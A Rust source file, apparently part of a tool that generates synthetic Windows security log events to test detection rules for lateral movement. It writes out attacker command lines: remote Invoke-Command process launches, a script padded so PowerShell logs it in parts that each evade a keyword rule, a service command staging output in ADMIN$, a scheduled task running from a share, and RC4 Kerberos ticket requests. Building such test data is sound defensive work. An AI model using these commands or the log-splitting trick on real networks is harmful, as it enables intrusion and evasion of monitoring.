//! From one machine to the next.

use super::Attack;
use crate::event::Event;
use crate::kinds::logon::{Session, Way};
use crate::kinds::powershell::Script;
use crate::kinds::{directory, logon, powershell, security, system};
use crate::site::{HostId, PEOPLE, Site};

/// A process is started on another machine with `Invoke-Command`.
pub(super) const WINRM: Attack = Attack {
    name: "winrm",
    rules: &["remote_process_instantiation_via_winrm_and_powershell_script_block"],
    on_dc: false,
    play: winrm,
};

fn winrm(site: &mut Site, host: HostId, events: &mut Vec<Event>) {
    let (person, target) = (site.host(host).owner, site.host(Site::DC).fqdn.clone());
    let script = format!(
        "Invoke-Command -ComputerName {target} -ScriptBlock {{ Start-Process -FilePath C:\\Windows\\Temp\\tidewatch.exe -WindowStyle Hidden }}"
    );
    events.extend(powershell::script_block(site, host, person, Script::typed(script)));
    site.wait(700);
    let again = format!("invoke-command -computername {target} {{ whoami /groups }}");
    events.extend(powershell::script_block(site, host, person, Script::typed(again)));
}

/// The same in a script so long that PowerShell logs it in parts, none of which holds both words.
pub(super) const WINRM_SPLIT: Attack = Attack {
    name: "winrm-split",
    rules: &["remote_process_instantiation_via_winrm_and_powershell_script_block"],
    on_dc: false,
    play: winrm_split,
};

fn winrm_split(site: &mut Site, host: HostId, events: &mut Vec<Event>) {
    let (person, target) = (site.host(host).owner, site.host(Site::DC).fqdn.clone());
    let mut filler = |lines: u64| {
        let line = |number| format!("# tide table {number:03}: {}\r\n", site.random.hex(48));
        (0..lines).map(line).collect::<Vec<_>>().concat()
    };
    let parts = vec![
        format!("{}$work = {{ Start-Process C:\\Windows\\Temp\\tidewatch.exe }}\r\nInvoke-Com", filler(20)),
        format!("mand -ScriptBlock $work `\r\n{}    -Computer", filler(20)),
        format!("Name {target}\r\n{}", filler(6)),
    ];
    events.extend(powershell::script_block(site, host, person, Script { parts, path: "" }));
}

/// A remote desktop session that comes out of a tunnel on the machine itself.
pub(super) const RDP_LOOPBACK: Attack = Attack {
    name: "rdp-loopback",
    rules: &["remote_desktop_logon_from_loopback_address"],
    on_dc: false,
    play: rdp_loopback,
};

fn rdp_loopback(site: &mut Site, host: HostId, events: &mut Vec<Event>) {
    let logon_id = site.new_logon_id();
    let session = Session { person: PEOPLE[0], way: Way::RemoteDesktop, logon_id, ip: "127.0.0.1".into() };
    events.push(logon::logon(site, host, &session));
    events.push(logon::special_logon(site, host, &session));
    site.wait(45_000);
    events.push(logon::logoff(site, host, &session));
}

/// A task of the domain controller runs a program from somebody's share.
pub(super) const SHARE_TASK: Attack = Attack {
    name: "share-task",
    rules: &["scheduled_task_runs_program_from_network_share"],
    on_dc: true,
    play: share_task,
};

fn share_task(site: &mut Site, host: HostId, events: &mut Vec<Event>) {
    let name = "\\Tide Sync";
    let command = format!("\\\\{}\\drop$\\tidewatch.exe", site.host(Site::WORKSTATION).fqdn);
    let xml = security::task_xml(&PEOPLE[0].qualified(), &command, "-s");
    events.push(security::task_created(site, host, PEOPLE[0], name, xml));
    events.push(system::task_registered(site, host, PEOPLE[0], name));
}

/// A service whose command leaves its output in an administrative share, for the attacker to fetch.
pub(super) const SHARE_SERVICE: Attack = Attack {
    name: "share-service",
    rules: &["service_command_writes_to_local_administrative_share"],
    on_dc: true,
    play: share_service,
};

fn share_service(site: &mut Site, host: HostId, events: &mut Vec<Event>) {
    let name = site.random.hex(8);
    for command in ["whoami", "net group \"Domain Admins\" /domain"] {
        let path = format!(
            "%COMSPEC% /Q /c {command} ^> \\\\127.0.0.1\\ADMIN$\\__{name} 2^>^&1 > %TEMP%\\run.bat & %COMSPEC% /Q /c %TEMP%\\run.bat"
        );
        events.push(system::installed(site, host, PEOPLE[0], name.clone().into(), path.into()));
        site.wait(900);
    }
}

/// One account asks for tickets that can be cracked, for one service account after the other.
pub(super) const WEAK_TICKETS: Attack = Attack {
    name: "weak-tickets",
    rules: &["one_account_collects_weak_kerberos_service_tickets"],
    on_dc: true,
    play: weak_tickets,
};

fn weak_tickets(site: &mut Site, host: HostId, events: &mut Vec<Event>) {
    let person = site.host(Site::WORKSTATION).owner;
    let services = ["svc-reports", "svc-backup", "svc-sql", "svc-web", "svc-print", "svc-scan", "svc-berths"];
    for (rid, service) in (1130..).zip(services) {
        let ticket = directory::Ticket { service: service.to_owned(), rid, encryption: 0x17 };
        events.push(directory::service_ticket(site, host, person, Site::WORKSTATION, &ticket));
        site.wait(40);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(play: fn(&mut Site, HostId, &mut Vec<Event>), field: &str) -> Vec<String> {
        let mut events = Vec::new();
        play(&mut Site::new(21, 1), Site::WORKSTATION, &mut events);
        events.iter().filter_map(|event| event.data.get(field)).map(ToString::to_string).collect()
    }

    fn matches(text: &str) -> bool {
        let text = text.to_ascii_lowercase();
        text.contains("invoke-command") && text.contains("-computername")
    }

    #[test]
    fn each_script_of_the_plain_attack_matches_alone() {
        let blocks = texts(winrm, "ScriptBlockText");
        assert_eq!(blocks.len(), 2);
        assert!(blocks.iter().all(|block| matches(block)), "{blocks:?}");
        assert_eq!(texts(winrm, "Path"), ["", ""]);
    }

    #[test]
    fn no_part_of_the_long_script_matches_but_the_whole_does() {
        let parts = texts(winrm_split, "ScriptBlockText");
        assert_eq!(parts.len(), 3);
        for part in &parts {
            let part = part.to_ascii_lowercase();
            assert!(!part.contains("invoke-command") && !part.contains("-computername"), "{part}");
        }
        assert!(matches(&parts.concat()));
        assert_eq!(texts(winrm_split, "MessageTotal"), ["3", "3", "3"]);
    }

    #[test]
    fn tickets_are_for_many_services_and_weak() {
        let mut services = texts(weak_tickets, "ServiceName");
        services.dedup();
        assert!(services.len() >= 5);
        assert!(texts(weak_tickets, "TicketEncryptionType").iter().all(|kind| kind == "0x17"));
    }
}
